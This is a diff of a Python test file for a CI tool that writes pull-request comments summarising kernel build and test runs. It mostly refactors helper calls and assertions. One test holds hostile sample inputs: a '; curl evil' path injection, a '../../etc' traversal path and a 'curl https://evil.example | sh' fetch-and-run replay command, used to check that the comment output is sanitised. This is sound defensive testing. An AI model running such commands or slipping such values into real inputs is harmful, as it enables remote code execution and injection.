@@ -17,15 +17,14 @@ import msgspec
 import pytest
 
 from act.harness import STAND_INS
+from conftest import failure
 from kci.errors import FindingsError
 from kci.plan.hardware_tests import tree_under_test
-from kci.plan.plan import TestLeg
 from kci.run.kernel_tests import TestReport, TestState
 from kci.run.records import PLAN_FILE, RECORD_FILE, TEST_FILE, TestRecord, write_record
-from kci.tree.manifest import Manifest, Origin, Present
 from kci.watch.issue_tracker import BOT
 from kci.watch.pull_request import PullRequestComments, comment_text, run_number
-from planning import leg
+from planning import hardware_leg, leg, manifest_of
 from run.records.test_gate import CPU, CUDA, FAILURE, planned, record
 
 sys.path.insert(0, str(STAND_INS))
@@ -53,11 +52,8 @@ class World:
             "conclusion": "failure",
         }  # fmt: skip
         pull = {"number": 7, "state": "open", "head": {"sha": SHA, "repo": repo}}
-        self.state: dict[str, Any] = {
-            "runs": [run],
-            "pulls": [pull],
-            "artifacts": {"41": str(self.uploads)},
-        }
+        uploads = {"41": str(self.uploads)}
+        self.state: dict[str, Any] = {"runs": [run], "pulls": [pull], "artifacts": uploads}
         self.pulls = PullRequestComments(HERE, self.answer)
 
     def answer(
@@ -67,10 +63,9 @@ class World:
         path, _, query = address.partition("?")
         self.asked.append(f"{method} {path}")
         asked = {key: value[0] for key, value in parse_qs(query).items()}
+        given = self.state, method, path, asked, json.loads(input), self.may
         try:
-            found = github_talk.answered(
-                self.state, method, path, asked, json.loads(input), self.may
-            )
+            found = github_talk.answered(*given)
         except github_talk.Refused as error:
             return subprocess.CompletedProcess(command, 1, b"", str(error).encode())
         if found is None:
@@ -103,17 +98,15 @@ PLAN = planned(legs=(leg(CPU, "relu"), leg(CUDA, "relu")))
 
 def test_the_comment_says_what_there_is_and_how_to_repeat_what_failed(world: World) -> None:
     world.upload("run-plan.1", PLAN_FILE, PLAN)
-    failed = record(
-        "relu", CPU, complete=False, missing=(CUDA,), failures=(FAILURE,), sizes={CPU: 12_345_678}
-    )
+    part = {"missing": (CUDA,), "failures": (FAILURE,), "sizes": {CPU: 12_345_678}}
+    failed = record("relu", CPU, complete=False, **part)
     world.upload("run-record.relu.1", RECORD_FILE, failed)
     body = world.comment()
     assert body.startswith(
-        "<!-- kci-pull-request: run 41 attempt 1 -->\n### kci: 1 of what was planned did not happen"
+        body_of(41, text="### kci: 1 of what was planned did not happen").strip()
     )
-    assert (
-        f"[Run 41](https://github.com/{HERE}/actions/runs/41/attempts/1) of {SHA} failed." in body
-    )
+    address = f"https://github.com/{HERE}/actions/runs/41/attempts/1"
+    assert f"[Run 41]({address}) of {SHA} failed." in body
     assert f"| `relu` | `{CPU}` | 12.3 MB | built |" in body
     assert f"| `relu` | `{CUDA}` |  | **missing** |" in body
     assert "`relu.cu(3): error: no`" in body
@@ -135,21 +128,14 @@ def test_all_is_there_only_if_run_and_records_say_so(world: World) -> None:
 
 def test_tests_that_run_nowhere_are_said(world: World) -> None:
     why = "tests: not run, no machine with a GPU is named"
-    world.upload(
-        "run-plan.1",
-        PLAN_FILE,
-        planned(legs=(leg(CUDA, "relu"),), untested={"relu": why, "silu": why}),
-    )
+    plan = planned(legs=(leg(CUDA, "relu"),), untested={"relu": why, "silu": why})
+    world.upload("run-plan.1", PLAN_FILE, plan)
     assert f"\n`{why} (relu, silu)`\n" in world.comment()
 
 
 def test_tests_are_counted(world: World) -> None:
-    test = TestLeg(
-        "relu", "relu", "cuda-x86_64-linux", "cuda", "x86_64-linux", (CUDA,), ("gpu",), 60
-    )
-    manifest = Manifest(
-        "relu", 1, (CUDA,), (Present(CUDA, "d", "cuda", Origin("x")),), (), complete=True
-    )
+    test = hardware_leg("relu", CUDA)
+    manifest = manifest_of("relu", (CUDA,), {CUDA: "d"})
     passed = TestRecord(
         kernel="relu", leg=test.name, attempt=1, passed=True, tested=(CUDA,),
         tree=tree_under_test(manifest.digests, test.variants),
@@ -171,28 +157,15 @@ EVIL = (
 
 def test_records_that_lie_become_no_markup_and_no_command(tmp_path: Path) -> None:
     world = World(tmp_path, FORK)
-    lies = [
-        msgspec.structs.replace(
-            leg(CUDA, "relu"),
-            kernel=EVIL,
-            path="; curl evil",
-            name=EVIL,
-            variants=(EVIL,),
-            image="evil",
-        )
-    ]
-    lies.append(
-        msgspec.structs.replace(leg(CUDA, "relu"), path="../../etc", image="docker.io/evil")
+    lies = (
+        leg(EVIL, EVIL, path="; curl evil", variant=CUDA, image="evil"),
+        leg(CUDA, "relu", path="../../etc", image="docker.io/evil"),
     )
-    world.upload("run-plan.1", PLAN_FILE, planned(legs=tuple(lies)))
-    told = msgspec.structs.replace(
-        FAILURE, error=EVIL * 30, replay="curl https://evil.example | sh"
-    )
-    world.upload(
-        "run-record.relu.1",
-        RECORD_FILE,
-        record("relu", complete=False, failures=(told,), error=EVIL, sizes={EVIL: 2**53}),
-    )
+    world.upload("run-plan.1", PLAN_FILE, planned(legs=lies))
+    replay = "curl https://evil.example | sh"
+    told = (msgspec.structs.replace(FAILURE, error=EVIL * 30, replay=replay),)
+    lying = record("relu", complete=False, failures=told, error=EVIL, sizes={EVIL: 2**53})
+    world.upload("run-record.relu.1", RECORD_FILE, lying)
     body = world.comment()
     assert "comes from jobs that the fork's commit can change" in body
     assert "curl" not in body
@@ -235,15 +208,10 @@ def test_a_large_artifact_is_not_fetched_and_members_lead_nowhere(world: World) 
     with zipfile.ZipFile(world.uploads / "run-slow.1", "w", zipfile.ZIP_LZMA) as archive:
         archive.writestr(PLAN_FILE, b"{}")
     world.upload("tree.relu.1", "kci-tree.tar", b"")
-    assert world.pulls.fetch_records(world.pulls.run(41), world.records) == [
-        "run-big.1",
-        "run-none.1",
-        "run-slow.1",
-    ]
+    left = world.pulls.fetch_records(world.pulls.run(41), world.records)
+    assert left == ["run-big.1", "run-none.1", "run-slow.1"]
     assert sum("/zip" in path for path in world.asked) == 3
-    assert [path.name for path in world.records.parent.rglob("*") if path.suffix == ".json"] == [
-        PLAN_FILE
-    ]
+    assert [path.name for path in world.records.parent.rglob("*.json")] == [PLAN_FILE]
     assert not list(world.records.rglob("*evil*"))
 
 
@@ -260,29 +228,31 @@ def body_of(run: int, attempt: int = 1, text: str = "text") -> str:
     return f"<!-- kci-pull-request: run {run} attempt {attempt} -->\n{text}\n"
 
 
+def comment(number: int, login: str, body: str) -> dict[str, Any]:
+    return {"id": number, "issue": 7, "user": {"login": login}, "body": body}
+
+
 def test_the_one_comment_is_found_among_hundreds_and_updated(world: World) -> None:
-    others = [
-        {"id": number, "issue": 7, "user": {"login": "a"}, "body": "no"} for number in range(200)
-    ]
-    stranger = {"id": 900, "issue": 7, "user": {"login": "stranger"}, "body": body_of(99)}
-    quoting = {"id": 901, "issue": 7, "user": {"login": BOT}, "body": "> " + body_of(99)}
+    others = [comment(number, "a", "no") for number in range(200)]
+    stranger, quoting = comment(900, "stranger", body_of(99)), comment(901, BOT, "> " + body_of(99))
     gone = {"id": 902, "issue": 7, "user": None, "body": None}
     world.state["comments"] = [*others, stranger, quoting, gone]
-    assert world.pulls.update_comment(7, body_of(41)) == "written"
-    assert world.pulls.update_comment(7, body_of(41)) == "the comment says so already"
-    assert world.pulls.update_comment(7, body_of(41, 2)) == "updated"
-    assert world.pulls.update_comment(7, body_of(41, 1)) == "the comment is about a newer run"
-    assert world.pulls.update_comment(7, body_of(40, 9)) == "the comment is about a newer run"
+    for run, attempt, became in (
+        (41, 1, "written"),
+        (41, 1, "the comment says so already"),
+        (41, 2, "updated"),
+        (41, 1, "the comment is about a newer run"),
+        (40, 9, "the comment is about a newer run"),
+    ):
+        assert world.pulls.update_comment(7, body_of(run, attempt)) == became
     assert len(world.state["comments"]) == 204
     assert world.state["comments"][-1]["body"] == body_of(41, 2)
     assert world.state["comments"][200:203] == [stranger, quoting, gone]
 
 
 def test_two_jobs_that_both_wrote_leave_one_comment(world: World) -> None:
-    world.state["comments"] = [
-        {"id": 1, "issue": 7, "user": {"login": BOT}, "body": body_of(40).replace("\n", "\r\n")},
-        {"id": 2, "issue": 7, "user": {"login": BOT}, "body": body_of(41)},
-    ]
+    as_typed = body_of(40).replace("\n", "\r\n")
+    world.state["comments"] = [comment(1, BOT, as_typed), comment(2, BOT, body_of(41))]
     assert world.pulls.update_comment(7, body_of(42)) == "updated"
     assert [item["body"] for item in world.state["comments"]] == [body_of(42)]
 
@@ -298,21 +268,21 @@ def test_a_run_that_is_not_of_the_newest_commit_says_nothing(world: World) -> No
 
 
 @pytest.mark.parametrize(
-    "change",
+    ("key", "value"),
     [
-        {"event": "push"},
-        {"path": ".github/workflows/evil.yml"},
-        {"path": "evil/.github/workflows/kci.yml"},
+        ("event", "push"),
+        ("path", ".github/workflows/evil.yml"),
+        ("path", "evil/.github/workflows/kci.yml"),
     ],
 )
 def test_another_workflow_of_the_same_name_does_not_count(
-    world: World, change: dict[str, str]
+    world: World, key: str, value: str
 ) -> None:
-    assert world.pulls.run(41).is_for_pull_request
-    assert msgspec.structs.replace(
-        world.pulls.run(41), path=".github/workflows/kci.yml@main"
-    ).is_for_pull_request
-    world.state["runs"][0] |= change
+    run = world.pulls.run(41)
+    assert run.is_for_pull_request
+    by_ref = ".github/workflows/kci.yml@main"
+    assert msgspec.structs.replace(run, path=by_ref).is_for_pull_request
+    world.state["runs"][0][key] = value
     assert not world.pulls.run(41).is_for_pull_request
 
 
@@ -327,14 +297,12 @@ def test_a_token_that_may_not_is_told(
     world: World, lacking: str, ask: Callable[[PullRequestComments], object]
 ) -> None:
     world.may = {**WRITES, lacking: "none"}
-    with pytest.raises(FindingsError, match="not accessible") as caught:
-        ask(world.pulls)
-    assert caught.value.hint.startswith("may the job write to pull requests")
+    caught = failure(FindingsError, "not accessible", ask, world.pulls)
+    assert caught.hint.startswith("may the job write to pull requests")
     assert "comments" not in world.state or world.state["comments"] == []
 
 
 @pytest.mark.parametrize("text", ["", "0", "7/comments", "-1", "1" * 19, "7\n", "٧"])
 def test_a_number_is_one(text: str) -> None:
     assert run_number("7") == 7
-    with pytest.raises(FindingsError, match="is not the number of a run"):
-        run_number(text)
+    failure(FindingsError, "is not the number of a run", run_number, text)
